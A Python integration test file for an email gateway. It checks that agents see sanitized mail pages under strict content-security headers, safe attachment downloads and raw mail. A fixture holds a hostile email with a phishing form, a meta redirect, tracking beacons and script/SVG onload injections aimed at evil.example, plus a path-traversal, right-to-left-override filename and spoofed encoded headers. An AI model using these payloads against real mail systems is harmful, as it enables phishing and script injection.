"""What an agent gets of a mail over HTTP: facts, a page that reaches nobody, downloads."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import anyio
import httpx2
import pytest
from sqlmodel import select

from gateway.channels.email.listener import Envelope
from gateway.files.child import Child
from gateway.services import mail_intake, mails
from gateway.store.tables import EntryRow, InboundRow, StoreRow
from gateway.store.tx import Tx
from tests.integration.web_gateway import WebGateway, on_air

CORPUS = Path(__file__).parents[1] / "corpus" / "mail"
SVG = (
    b"From: eve@evil.example\r\nMessage-ID: <svg@evil.example>\r\nSubject: <b>hi</b>\r\n"
    b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
    b'<meta http-equiv=refresh content="0;url=https://evil.example">'
    b'<form action="https://evil.example"><input name=password></form><img src="cid:x">'
    b'<div style="position:fixed;background:url(https://evil.example/p)"'
    b' background="//evil.example">seen</div><script>parent.__pwn=1</script>'
    b'<img srcset="https://evil.example/a 2x">\r\n--b\r\n'
    b'Content-Type: image/png; name="../../a\xe2\x80\xaegnp.svg"\r\nContent-ID: <x>\r\n\r\n'
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwn=1'/>\r\n--b--\r\n"
)


@pytest.fixture(scope="module")
async def air(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[WebGateway]:
    async with on_air(tmp_path_factory.mktemp("originals")) as running:
        yield running


async def _came(air: WebGateway, raw: bytes) -> str:
    """Have a mail come in and be read; where its original is."""
    house = air.gateway.house

    def mail_from(tx: Tx) -> str:
        store = tx.session.exec(select(StoreRow).where(StoreRow.key == "pk_acme")).one()
        store.mail_from = store.mail_from or "support@acme.example"
        tx.session.add(store)
        return store.mail_from

    to = await house.store.write(mail_from)
    sender = "vera@home.example"
    await mail_intake.keep(house, Envelope(sender=sender, recipients=(to,), raw=raw, peer=""))
    child = Child("gateway.worker.mail_reader")
    try:
        await mails.read_due(house, child)
    finally:
        await child.aclose()

    def latest(tx: Tx) -> str:
        kept = tx.session.exec(select(InboundRow).where(InboundRow.raw == raw)).one()
        came = select(EntryRow).where(EntryRow.inbound_key == kept.inbound_key)
        row = tx.session.exec(came).one()
        return (
            f"/api/stores/{row.store_id}/conversations/{row.conversation_id}"
            f"/entries/{row.entry_id}/original"
        )

    return await house.store.read(latest)


class Ada:
    """An agent who has signed in."""

    def __init__(self, air: WebGateway, cookie: str) -> None:
        self._air = air
        self._cookie = cookie

    async def gets(self, path: str) -> httpx2.Response:
        return await self._air.http.get(path, headers={"Cookie": self._cookie})


@pytest.fixture(scope="module")
async def ada(air: WebGateway) -> Ada:
    return Ada(air, (await air.sign_in()).cookie)


async def test_ada_sees_what_is_in_veras_mail(air: WebGateway, ada: Ada) -> None:
    at = await _came(air, (CORPUS / "related_pictures.eml").read_bytes())
    facts = (await ada.gets(at)).json()
    assert facts["sender"] == "Vera Larsen <vera@home.example>"
    assert facts["subject"] == "Two pictures"
    assert "My lamp" in facts["text"]  # from its page, as it has no other words
    assert (facts["has_page"], facts["held_back"], facts["unreadable"]) == (True, 2, False)
    assert [(file["name"], file["content_type"], file["inline"]) for file in facts["files"]] == [
        ("attachment.png", "image/png", True),
        ("Rechnung für Vera.pdf", "application/pdf", False),
    ]


async def test_ada_reads_who_wrote_in_their_own_letters_and_a_name_never_becomes_an_address(
    air: WebGateway, ada: Ada
) -> None:
    # RFC 2047: the name is `أمل`, and the other one would like to be `support@acme.example`.
    raw = (
        b"From: =?utf-8?b?2KPZhdmE?= <amal@home.example>\r\n"
        b"To: =?utf-8?q?support=40acme=2Eexample=3E=2C?= <eve@evil.example>, =?utf-8?q?not one\r\n"
        b"Message-ID: <amal@home.example>\r\n\r\nHello"
    )
    facts = (await ada.gets(await _came(air, raw))).json()
    assert facts["sender"] == "أمل <amal@home.example>"
    assert facts["to"] == "eve@evil.example"


async def test_the_page_reaches_nobody_until_ada_asks_for_the_pictures(
    air: WebGateway, ada: Ada
) -> None:
    at = await _came(air, (CORPUS / "related_pictures.eml").read_bytes())
    page = await ada.gets(at + "/page")
    assert 'src="data:image/png;base64,' in page.text
    assert "pictures.example" not in page.text
    assert "track.example" not in page.text
    assert "position" not in page.text
    rules = page.headers.get_list("content-security-policy")
    assert any("default-src 'none'" in each and "img-src data:;" in each for each in rules)
    assert any(each.startswith("sandbox ") and "script" not in each for each in rules)
    assert all("same-origin" not in each for each in rules)
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    asked = await ada.gets(at + "/page?pictures=1")
    assert 'src="http://pictures.example/foot.png"' in asked.text
    rules = asked.headers.get_list("content-security-policy")
    assert any("img-src data: https: http:;" in each for each in rules)
    assert all("script-src" not in each for each in rules)


async def test_an_enemys_mail_is_words_and_downloads(air: WebGateway, ada: Ada) -> None:
    at = await _came(air, SVG)
    page = (await ada.gets(at + "/page")).text.split("</style>", 1)[1]
    assert "seen" in page
    for gone in ("evil.example", "<script", "<form", "<input", "<meta", "style=", "<svg", "srcset"):
        assert gone not in page
    facts = (await ada.gets(at)).json()
    assert facts["subject"] == "<b>hi</b>"
    (file,) = facts["files"]
    assert file["name"] == "a gnp.svg"
    assert file["content_type"] == "image/svg+xml"
    got = await ada.gets(f"{at}/files/{file['number']}")
    assert got.headers["content-type"] == "application/octet-stream"
    assert got.headers["content-disposition"] == (
        "attachment; filename=\"a gnp.svg\"; filename*=UTF-8''a%20gnp.svg"
    )
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert got.content.startswith(b"<svg")


async def test_the_raw_mail_is_a_download_with_every_byte(air: WebGateway, ada: Ada) -> None:
    raw = (CORPUS / "odd_names.eml").read_bytes()
    got = await ada.gets(await _came(air, raw) + "/raw")
    assert got.content == raw
    assert got.headers["content-type"] == "message/rfc822"
    assert got.headers["content-disposition"].startswith("attachment; ")
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("below", ["", "/page", "/files/0", "/raw"])
async def test_nobody_who_is_not_signed_in_gets_anything(air: WebGateway, below: str) -> None:
    at = await _came(air, (CORPUS / "related_pictures.eml").read_bytes())
    assert (await air.http.get(at + below)).status_code == 401


@pytest.mark.parametrize("below", ["/page", "/files/0", "/files/99999999"])
async def test_what_a_mail_does_not_have_is_not_found(
    air: WebGateway, ada: Ada, below: str
) -> None:
    at = await _came(air, (CORPUS / "koi8_bare.eml").read_bytes())
    answer = await ada.gets(at + below)
    assert (answer.status_code, answer.json()["code"]) == (404, "not_found")


async def test_a_mail_that_nobody_can_read_shows_its_bytes_and_the_house_goes_on(
    air: WebGateway, ada: Ada
) -> None:
    boxes = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(1_000)
    )
    raw = b"From: vera@home.example\r\nMessage-ID: <boxes@home.example>\r\n" + boxes
    at = await _came(air, raw)
    facts = (await ada.gets(at)).json()
    assert facts["unreadable"] is True
    assert facts["text"].startswith("From: vera@home.example")
    assert (await ada.gets(at + "/page")).status_code == 404
    assert (await ada.gets(at + "/raw")).content == raw


async def test_ten_agents_open_the_same_mail_at_once(air: WebGateway, ada: Ada) -> None:
    at = await _came(air, (CORPUS / "winmail.eml").read_bytes())
    subjects: list[str] = []

    async def opens() -> None:
        subjects.append((await ada.gets(at)).json()["subject"])

    async with anyio.create_task_group() as group:
        for _ in range(10):
            group.start_soon(opens)
    assert subjects == ["Lamp broken"] * 10
